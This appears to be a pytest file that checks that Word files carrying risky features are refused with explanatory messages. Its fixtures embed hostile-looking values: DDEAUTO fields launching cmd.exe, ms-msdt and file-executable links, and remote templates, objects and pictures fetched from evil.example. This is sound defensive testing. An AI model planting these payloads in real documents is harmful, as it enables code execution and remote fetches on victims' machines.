"""Word files with more in them than answers: each is refused, in words."""

import re

import pytest

from tests.rendering.returned.returned_forms import (
    MICROSOFT,
    Make,
    changed,
    file_of,
    refusal,
    related,
    typed,
    with_parts,
)

TEXT, TEXT_RELS = "word/document.xml", "word/_rels/document.xml.rels"


def _in_text(mark_up: str) -> Make:
    return lambda: changed(file_of("docx"), TEXT, "<w:sectPr", f"{mark_up}<w:sectPr")


def _field(*pieces: str) -> Make:
    runs = "".join(f'<w:r><w:instrText xml:space="preserve">{piece}</w:instrText></w:r>' for piece in pieces)
    return _in_text(
        f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r><w:r><w:t>Nearby</w:t></w:r></w:p>'
    )


def _outside(kind: str, target: str, *, part: str = TEXT_RELS) -> Make:
    return lambda: related(file_of("docx"), part, kind, target, outside=True)


def _settings_rels() -> bytes:
    rels = "word/_rels/settings.xml.rels"
    empty = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>'
    )
    content = with_parts(file_of("docx"), {rels: empty.encode()})
    return related(content, rels, "attachedTemplate", "http://evil.example/x.dotm", outside=True)


WORD_FILES: dict[str, tuple[Make, str]] = {
    "a remote template": (_settings_rels, "template that is fetched from elsewhere"),
    "a remote picture": (_outside("image", "http://evil.example/x.png"), "picture that is fetched"),
    "a remote object": (_outside("oleObject", "mhtml:http://evil.example!x"), "embedded object"),
    "another document": (_outside("subDocument", "http://evil.example/x.docx"), "another document"),
    "a document to put in": (
        lambda: related(file_of("docx"), TEXT_RELS, "aFChunk", "x.html"),
        "another document",
    ),
    "a place for a document": (_in_text('<w:altChunk r:id="x"/>'), "another document"),
    "a link to a file": (_outside("hyperlink", "file:///C:/x.exe"), "link.*leads to"),
    "a link to a share": (_outside("hyperlink", "\\\\evil\\share\\x"), "link.*leads to"),
    "a link with a command": (_outside("hyperlink", "ms-msdt:/id x"), "link.*leads to"),
    "a script": (_outside("hyperlink", "JavaScript:alert(1)"), "link.*leads to"),
    "DDE": (_field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"'), "may fetch or run.*Nearby"),
    "DDE in pieces": (_field("DD", "EAU", "TO x y"), "may fetch or run"),
    "DDE in short": (_in_text('<w:p><w:fldSimple w:instr="DDE x y"/></w:p>'), "may fetch or run"),
    "text from elsewhere": (_field('INCLUDETEXT "http://evil.example/x"'), "may fetch or run"),
    "a field made up of others": (
        _in_text(
            '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
            "<w:r><w:instrText>REF x</w:instrText></w:r>"
            '<w:r><w:fldChar w:fldCharType="end"/></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
        ),
        "may fetch or run",
    ),
    "a field that builds others": (_field("QUOTE 68 68 69"), "may fetch or run"),
    "a field that links": (_field('HYPERLINK "file://evil/x"'), "link.*leads to"),
    "an object": (_in_text("<w:p><w:r><w:object/></w:r></w:p>"), "embedded object"),
    "a control": (_in_text('<w:p><w:r><w:control r:id="x"/></w:r></w:p>'), "ActiveX"),
    "an ActiveX part": (lambda: related(file_of("docx"), TEXT_RELS, "control", "activeX/a.xml"), "ActiveX"),
    "a package": (
        lambda: related(file_of("docx"), TEXT_RELS, "package", "embeddings/a.xlsx"),
        "another file",
    ),
    "macros": (
        lambda: related(file_of("docx"), TEXT_RELS, "vbaProject", "vbaProject.bin", base=MICROSOFT),
        "macros",
    ),
    "a text with macros": (
        lambda: typed(file_of("docx"), "word/a.bin", "application/vnd.ms-office.vbaProject"),
        "macros",
    ),
    "a script that nothing leads to": (
        lambda: with_parts(file_of("docx"), {"word/a.js": b"x"}),
        "another file inside the file .“word/a.js",
    ),
    "a mail merge": (
        lambda: changed(file_of("docx"), "word/settings.xml", "<w:compat>", "<w:mailMerge/><w:compat>"),
        "data elsewhere",
    ),
    "an old picture from elsewhere": (
        _in_text(
            '<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml">'
            '<v:imagedata src="http://evil.example/x.png"/></v:shape></w:pict></w:r></w:p>'
        ),
        "picture that is fetched",
    ),
    "a box that runs": (
        _in_text('<w:p><w:r><w:ffData><w:entryMacro w:val="x"/></w:ffData></w:r></w:p>'),
        "boxes that run programs",
    ),
}


@pytest.mark.parametrize("kind", WORD_FILES)
def test_word_files_with_more_than_answers_are_refused(kind: str):
    make, words = WORD_FILES[kind]
    said = refusal(make())
    assert re.search(words, said), said
